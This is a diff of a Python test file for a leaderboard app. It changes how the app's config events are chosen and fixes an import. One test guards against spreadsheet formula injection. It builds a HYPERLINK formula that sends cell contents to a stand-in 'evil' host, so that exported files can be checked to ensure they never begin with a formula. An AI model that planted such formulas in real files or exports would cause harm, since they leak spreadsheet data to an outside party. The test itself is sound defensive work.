@@ -143,8 +143,9 @@ def outcome(client: httpx.Client, session: str = "s") -> str:
 
 def forms(client: httpx.Client) -> tuple[int, int]:
     """The events that check and that submit."""
-    events = client.get("/config").json()["dependencies"]
-    by_fields = {len(e["inputs"]): e["id"] for e in events}
+    config = client.get("/config").json()
+    (outcome,) = [c["id"] for c in config["components"] if c["props"].get("elem_id") == "outcome"]
+    by_fields = {len(e["inputs"]): e["id"] for e in config["dependencies"] if e["outputs"] == [outcome]}
     return by_fields[4], by_fields[5]
 
 
@@ -249,7 +250,7 @@ def test_the_tables_as_files(client: httpx.Client, store: Store, make_request: C
 
 @pytest.mark.parametrize("start", FORMULA)
 def test_no_text_of_a_file_begins_a_formula(start: str, make_request: Callable[..., EvalRequest]) -> None:
-    from leaderboard.board import RankedRow
+    from leaderboard.ranking import RankedRow
 
     evil = f'{start}HYPERLINK("http://evil/?x="&A1,"click")'
     result = result_of(make_request()).evolve(
